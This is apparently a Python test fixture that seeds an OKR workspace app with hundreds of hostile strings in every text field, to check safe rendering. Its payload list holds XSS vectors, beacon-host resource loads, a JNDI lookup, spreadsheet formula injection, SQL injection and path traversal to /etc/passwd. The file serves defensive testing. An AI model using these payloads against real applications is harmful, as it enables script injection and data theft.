"""Five hundred texts that want to be more than text, and a workspace that has them in every field."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator, Sequence
from contextlib import suppress
from datetime import date, timedelta
from functools import partial
from itertools import cycle
from pathlib import Path
from typing import Final

import yaml
from actors import actor
from hostile import BEACON, START
from pydantic import ValidationError
from served import okr

from data.commands import check_ins, display_links, drivers, people, scenarios
from data.commands import reviews as review_commands
from data.commands.errors import Refused
from data.commands.workshops import workshops
from data.config import clock
from data.stores.workspace import Workspace
from okr_model.drivers.events import Event
from okr_model.what_if.scenario import Scenario

_RUN: Final = "window.pwned=1"
_PAYLOADS: Final = (
    *("<script>{run}</script>", "<ScRiPt src=//{out}/{n}.js></sCrIpT>", "<img src=x onerror={run}>", "<svg/onload={run}>"),
    *("<img src=//{out}/{n}.png>", "<iframe src=//{out}/{n}>", "<iframe srcdoc='<script>parent.pwned=1</script>'>"),
    *("<a href=javascript:{run}>x</a>", "<body onload={run}>", "<details open ontoggle={run}>", "<base href=//{out}/>"),
    *("<style>*{{display:none!important}}</style>", "<style>@import '//{out}/{n}.css';</style>", "<link rel=stylesheet href=//{out}/>"),
    *("<form action=//{out}><button>x</button></form>", "<meta http-equiv=refresh content='0;url=//{out}/'>", "<math><mtext></mtext></math>"),
    *("<video src=//{out}/v poster=//{out}/p>", "<object data=//{out}/o></object>", "<embed src=//{out}/e>", "<input autofocus onfocus={run}>"),
    *("' onmouseover='{run}' x='", '" onfocus="{run}" autofocus x="', "</textarea><script>{run}</script>", "</title><script>{run}</script>"),
    *("--><script>{run}</script><!--", "]]><script>{run}</script>", "&lt;script&gt;{run}&lt;/script&gt;", "\\u003cscript\\u003e{run}\\u003c/script\\u003e"),
    *("![x](http://{out}/{n}.png)", "![x][r]\n\n[r]: http://{out}/r.png", "[x](javascript:{run})", "[x](data:text/html,<script>{run}</script>)"),
    *("http://{out}/{n} and www.{out}", "<http://{out}/auto>", "[x](//{out}/l 'title')", "`x` **b** _i_ ~~s~~ # h", "# {n}\n\n- a\n- b"),
    *("| a | b |\n|---|---|\n| 1 | 2 |", "$\\href{{javascript:{run}}}{{x}}$", "$$\\includegraphics{{//{out}/t.png}}$$", ":red[x] :material/home: :smile:"),
    *("url(//{out}/u.png)", "expression({run})", "}}body{{display:none", "x:expression({run});background:url('//{out}/b')", "</style><img src=x onerror={run}>"),
    *("{{{{7*7}}}} ${{7*7}} #{{7*7}} <%= 7*7 %>", "{{id}} %s %(n)s {{0}} {{{{x}}}}", "{{__class__.__mro__}}", "%00 %0d%0aSet-Cookie: x=1", "${{jndi:ldap://{out}/a}}"),
    *("=HYPERLINK(\"http://{out}/\",\"x\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "＝1＋1", "＠x", "\u200b=1+1", "x;=1+1"),
    *("'; DROP TABLE objectives; --", "1 OR 1=1", "\" UNION SELECT * FROM people --", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd"),
    *("\u202e{n} moc.elpmaxe", "\u2067open", "\u2066\u202d{n}", "\u200f\u061c{n}", "Z\u0351\u036b\u0343\u033a{n}", "e\u0301" * 30, "👩🏽\u200d💻🎉{n}", "\ufeff{n}\u00ad"),
    *("x" * 190, "https://{out}/" + "y" * 150, "کاربران\u200cتازه{n}", "新規ユーザー" * 20, "a\u00a0b" * 40, "null", "undefined", "NaN", "-0", "1e999", "True", "[]", "{{}}"),
    *("-> <- <-> -- >= <= != ~=", "<!--", "<", "&", "&#x3c;script&#x3e;", "\\", "'", '"', "`", "%", "$", "|", "~", "^", "*", "_", "#", ">", "."),
)  # fmt: skip
_AROUND: Final = ("{}", "{} {n}", "a {}", "<b>{}</b>", "**{}**", "[{}](x)", '"{}"')


def words() -> list[str]:
    """All of them, each once, payloads of every kind from the first on."""
    made = (
        around.replace("{}", payload.format(run=_RUN, out=BEACON, n=n)).replace("{n}", str(n))[:190]
        for n, (around, payload) in enumerate((around, payload) for around in _AROUND for payload in _PAYLOADS)
    )
    return list(dict.fromkeys(made))


def some(count: int) -> list[str]:
    """So many, of all kinds."""
    found = words()
    step = max(1, len(found) // count)
    return found[::step][:count]


def seed(home: Path, texts: Sequence[str]) -> str:
    """A workspace with these in every field that takes text; gives the token of a screen on the wall.

    Each is in the title of a key result; the others go round through all other fields. Where a field refuses one in
    words, the next one is taken.
    """
    home.mkdir()
    more = cycle(texts)
    quoted = partial(json.dumps, ensure_ascii=False)  # TOML takes no halves of a letter
    (home / "okr.toml").write_text(
        f"[workspace]\ntitle = {quoted(next(more))}\nperson = 'ada@example.com'\n[sources.site]\nconnector = 'csv'\npath = 'views.csv'\n"
        f"dimensions = ['channel']\nmetrics.views = {{title = {quoted(next(more))}, unit = {quoted(next(more)[:60])}}}\n"
        f"[sources.wrong]\nconnector = 'csv'\npath = 'gone.csv'\n{quoted(next(more))} = {quoted(next(more))}\n",
        encoding="utf-8",
    )
    days = [START + timedelta(days=n) for n in range((clock.today() - START).days + 1)]
    channels = [next(more) for _ in range(3)]
    with (home / "views.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(
            [["day", "channel", "views"], *([d, c, 100 + d.day] for d in days for c in channels)]
        )
    (home / "okrs.yaml").write_text(yaml.safe_dump(_plan(texts, more), allow_unicode=True), encoding="utf-8")
    for command in (("plan", "apply", str(home / "okrs.yaml")), ("sync",)):
        done = okr(home, *command)
        assert "Traceback" not in done.stderr, done.stderr
    with Workspace.open(home) as workspace:
        return _said(workspace, texts, more)


def _plan(texts: Sequence[str], more: Iterator[str]) -> dict[str, object]:
    def result(n: int, text: str) -> dict[str, object]:
        steps = [{"name": next(more)} for _ in range(3)]
        measured = {"formula": "site.views", "baseline": 0, "target": 9000, "unit": next(more)[:60]}
        kind: dict[str, object] = {"type": "milestone", "steps": steps} if n % 7 == 3 else measured
        return {"id": f"k{n}", "title": text, "owner": next(more), "note": next(more), **kind}

    groups = [range(at, min(at + 5, len(texts))) for at in range(0, len(texts), 5)]
    return {
        "cycle": {"id": "now", "name": next(more), "start": START, "end": START + timedelta(days=90)},
        "objectives": [
            {
                "id": f"o{n}",
                "title": next(more),
                "owner": next(more),
                "team": next(more),
                "theme": next(more),
                "note": next(more),
                "key_results": [result(at, texts[at]) for at in group],
            }
            for n, group in enumerate(groups)
        ],
    }


def _said(workspace: Workspace, texts: Sequence[str], more: Iterator[str]) -> str:
    """Everything that people say besides the plan, by the commands that they say it with."""
    ada, today = actor(), workspace.today()
    plan = workspace.plan.plan("now")
    assert plan is not None, "the plan was refused"
    first = plan.objectives[0]
    for n, text in enumerate(texts):
        about = ("key result", f"k{n}")
        with suppress(Refused, ValidationError):
            check_ins.check_in(
                workspace, ada, "now", about, confidence=n % 11, note=text, obstacles=next(more), next_step=next(more)
            )
        with suppress(Refused, ValidationError):
            check_ins.comment(workspace, ada, "now", ("objective", first.id), text)
        with suppress(Refused, ValidationError):
            event = {
                "title": text,
                "first": today - timedelta(days=n % 20),
                "note": next(more),
                "tags": [next(more)[:40]],
            }
            drivers.add(workspace, ada, Event.model_validate({**event, "metrics": ["site.views"]}))
    for n in range(6):
        with suppress(Refused, ValidationError):
            people.save(workspace, ada, f"p{n}@example.com", name=next(more)[:100], team=next(more)[:100])
        with suppress(Refused, ValidationError):
            check_ins.feedback(
                workspace, ada, "now", ("objective", first.id), to="ada@example.com", kind="praise", text=next(more)
            )
        with suppress(Refused, ValidationError):
            what = {"name": next(more), "changes": [{"key_result": "k0", "target": 8000 + n}]}
            scenarios.save(workspace, ada, "now", Scenario.model_validate(what))
            scenarios.propose(workspace, ada, "now", Scenario.model_validate(what), reason=next(more))
    _meetings(workspace, texts, more, today)
    return display_links.make(workspace, ada, name=next(more)[:60])


def _meetings(workspace: Workspace, texts: Sequence[str], more: Iterator[str], today: date) -> None:
    ada = actor()
    session = workshops.begin(workspace, ada, next(more))
    for text in texts[:12]:
        with suppress(Refused, ValidationError):
            workshops.add_idea(workspace, ada, session, text)
    setting = {"title": next(more), "cycle": "now", "day": today, "chair": ada.email}
    number = review_commands.make(workspace, ada, setting)
    review_commands.freeze(workspace, ada, number)
    for n, text in enumerate(texts[:8]):
        with suppress(Refused, ValidationError):
            review_commands.decide(
                workspace, ada, number, objective=f"o{n % 2}", verdict="keep", reason=text, owner=next(more)
            )
        with suppress(Refused, ValidationError):
            review_commands.agree(workspace, ada, number, what=text, owner=next(more), due=today)
